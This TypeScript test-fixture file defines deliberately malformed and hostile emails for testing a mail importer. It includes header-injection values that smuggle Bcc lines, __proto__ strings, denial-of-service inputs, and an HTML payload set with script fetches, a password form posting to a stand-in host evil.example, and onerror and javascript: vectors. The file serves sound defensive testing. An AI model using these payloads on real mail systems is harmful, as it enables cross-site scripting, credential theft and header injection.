/** Mails that nobody should send, by what is wrong with them, and what must become of each. */
import { PNG } from "./picture.ts";

export type HostileMail = {
  readonly raw: Buffer;
  /** Everything is kept; what can't be read at all is kept aside. */
  readonly status: "imported" | "set-aside";
};

export const HEAD = [
  "From: Ada <ada@example.com>",
  "To: help@desk.example",
  "Subject: Boots",
  "Date: Tue, 5 Mar 2024 09:12:00 +0100",
];

/** A mail of these header lines beside `HEAD`; a line of a name that `HEAD` has replaces it there. */
export function mail(lines: readonly string[], body: string | Buffer = "They leak.\r\n"): Buffer {
  const names = new Set(lines.map(nameOf));
  const head = [...HEAD.filter((line) => !names.has(nameOf(line))), ...lines];
  return Buffer.concat([Buffer.from(`${head.join("\r\n")}\r\n\r\n`, "utf8"), Buffer.from(body)]);
}

const nameOf = (line: string) => line.slice(0, line.indexOf(":")).toLowerCase();

export function multipart(parts: readonly string[], boundary = "b"): Buffer {
  const body = parts.map((part) => `--${boundary}\r\n${part}\r\n`).join("");
  return mail([`Content-Type: multipart/mixed; boundary=${boundary}`], `${body}--${boundary}--\r\n`);
}

/** One ordinary mail with everything in it, to be cut off anywhere. */
export const WHOLE = mail(
  [
    "MIME-Version: 1.0",
    "Subject: =?utf-8?q?Gr=C3=BC=C3=9Fe?= from the boots",
    'Content-Type: multipart/mixed; boundary="=_outer"',
  ],
  [
    "--=_outer",
    'Content-Type: multipart/alternative; boundary="=_inner"',
    "",
    "--=_inner",
    "Content-Type: text/plain; charset=utf-8",
    "Content-Transfer-Encoding: quoted-printable",
    "",
    "Gr=C3=BC=C3=9Fe, the boots leak.",
    "--=_inner",
    "Content-Type: text/html; charset=utf-8",
    "Content-Transfer-Encoding: base64",
    "",
    Buffer.from("<p>Grüße, the <b>boots</b> leak.</p>").toString("base64"),
    "--=_inner--",
    "--=_outer",
    'Content-Type: image/png; name="boots.png"',
    "Content-Disposition: attachment",
    "Content-Transfer-Encoding: base64",
    "",
    PNG.toString("base64"),
    "--=_outer--",
    "",
  ].join("\r\n"),
);

const NESTED_DEPTH = 3000;
const nested = Array.from(
  { length: NESTED_DEPTH },
  (_, depth) => `${depth === 0 ? "" : `--n${depth - 1}\r\n`}Content-Type: multipart/mixed; boundary=n${depth}\r\n\r\n`,
).join("");

const imported = (raw: Buffer): HostileMail => ({ raw, status: "imported" });
const setAside = (raw: Buffer): HostileMail => ({ raw, status: "set-aside" });

export const HOSTILE_MAILS: Readonly<Record<string, HostileMail>> = {
  "bytes of no charset in header and body": imported(
    Buffer.concat([
      Buffer.from("From: ada@example.com\r\nSubject: "),
      Buffer.from([0xff, 0xfe, 0x80, 0xc3, 0x28]),
      Buffer.from("\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"),
      Buffer.from(Array.from({ length: 256 }, (_, byte) => byte)),
    ]),
  ),
  "a charset that nobody knows": imported(mail(["Content-Type: text/plain; charset=x-klingon"], "a\xffb")),
  "a charset whose name is code": imported(mail(['Content-Type: text/plain; charset="__proto__"'], "hi")),
  "multiparts nested without an end": imported(Buffer.from(`${HEAD.join("\r\n")}\r\n${nested}`)),
  "twenty thousand parts": imported(multipart(Array.from({ length: 20_000 }, () => "\r\nx"))),
  "a thousand attachments": imported(
    multipart(Array.from({ length: 1000 }, (_, part) => `Content-Type: image/png; name=${part}.png\r\n\r\n${part}`)),
  ),
  "a boundary that never comes": imported(mail(["Content-Type: multipart/mixed; boundary=never"], "text\r\n")),
  "an empty boundary": imported(mail(['Content-Type: multipart/mixed; boundary=""'], "--\r\n\r\nx\r\n----\r\n")),
  "base64 that is none": imported(mail(["Content-Transfer-Encoding: base64"], "§$%&/()=?`~ not base64 at all \0\0")),
  "an encoding of its own": imported(mail(["Content-Transfer-Encoding: rot26"], "uv")),
  "line breaks hidden in encoded names and subject": imported(
    mail([
      "From: =?utf-8?q?Eve=0D=0ABcc:_victim=40example.com?= <eve@example.com>",
      "Subject: =?utf-8?b?aGkNCkJjYzogdmljdGltQGV4YW1wbGUuY29tDQoNCmJvZHk=?=",
      'Reply-To: "Eve\r\n Bcc: victim@example.com" <eve@example.com>',
      "Message-ID: <injected\r\n Bcc:victim@example.com>",
      "References: <one\r\n\tBcc:victim@example.com> <two@example.com>",
    ]),
  ),
  "bare carriage returns and NULs in the header": imported(
    mail(["Subject: a\rBcc: victim@example.com\rX: \0\0", "X-Nul: \0"]),
  ),
  "a header field of a megabyte": imported(mail([`X-Long: ${"x".repeat(1_000_000)}`])),
  "five thousand header fields": imported(
    mail(["Subject: Fields", ...Array.from({ length: 5000 }, (_, field) => `X-${field}: y`)]),
  ),
  "a subject of five thousand letters": imported(mail([`Subject: ${"Überlang ".repeat(600)}`])),
  "a name of a hundred thousand letters": imported(mail([`From: "${"n".repeat(100_000)}" <long@example.com>`])),
  "an address of ten thousand letters": imported(mail([`From: ${"a".repeat(10_000)}@example.com`])),
  "ids of ten thousand letters": imported(
    mail([`Message-ID: <${"i".repeat(10_000)}@example.com>`, `References: <${"r".repeat(10_000)}@example.com>`]),
  ),
  "ten thousand references": imported(
    mail([
      "Subject: Many",
      `References: ${Array.from({ length: 10_000 }, (_, id) => `<${id}@example.com>`).join("\r\n ")}`,
    ]),
  ),
  "a reference to itself": imported(
    mail(["Message-ID: <self@example.com>", "In-Reply-To: <self@example.com>", "References: <self@example.com>"]),
  ),
  "nobody's name and address": imported(Buffer.from("To: help@desk.example\r\nSubject: anonymous\r\n\r\nhi\r\n")),
  "an address that is none": imported(mail(["From: <>", "Reply-To: not an address at all"])),
  "only a subject": imported(Buffer.from("Subject: nothing else\r\n")),
  "HTML that runs, asks and loads": imported(
    mail(
      ["Content-Type: text/html; charset=utf-8"],
      '<script>fetch("//evil.example")</script><form action="//evil.example"><input name=password></form><img src=x onerror=alert(1)><svg onload=alert(1)><iframe srcdoc="<script>alert(1)</script>"><meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example/"><style>@import "//evil.example"</style><a href="javascript:alert(1)">x</a>',
    ),
  ),
  "HTML of fifty thousand nested tables": imported(
    mail(["Content-Type: text/html"], "<table><tr><td>a".repeat(50_000)),
  ),
  "an attachment of ten thousand bytes of name": imported(
    multipart([`Content-Type: text/plain; name="${"n".repeat(10_000)}.exe"\r\n\r\nx`]),
  ),
  "a calendar of __proto__": imported(
    multipart(["Content-Type: __proto__/constructor; name=__proto__\r\nContent-ID: <__proto__>\r\n\r\nx"]),
  ),
  "a message in a message in a message": imported(
    mail(["Content-Type: message/rfc822"], `${"Content-Type: message/rfc822\r\n\r\n".repeat(500)}hi`),
  ),
  "a report of a hundred thousand lines": imported(
    mail(
      [
        "From: MAILER-DAEMON@example.com",
        "Return-Path: <>",
        "Content-Type: multipart/report; report-type=delivery-status; boundary=r",
      ],
      `--r\r\nContent-Type: message/delivery-status\r\n\r\n${"Final-Recipient: rfc822; a@example.com\r\nAction: failed\r\n\r\n".repeat(30_000)}--r--`,
    ),
  ),
  "a byte order mark in front": imported(
    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), mail(["Message-ID: <bom@example.com>"])]),
  ),
  "blank lines only": setAside(Buffer.from("\r\n \r\n\t\r\n".repeat(50_000))),
  "blank lines by the ten thousand before the header": imported(
    Buffer.concat([Buffer.from("\r\n".repeat(50_000)), mail(["Message-ID: <late@example.com>"])]),
  ),
  "a picture": setAside(PNG),
  zeros: setAside(Buffer.alloc(100_000)),
  "a web page": setAside(Buffer.from("<!doctype html><script>alert(1)</script>")),
  "text with no header": setAside(Buffer.from("Dear all,\r\n\r\nplease find attached nothing.\r\n")),
};
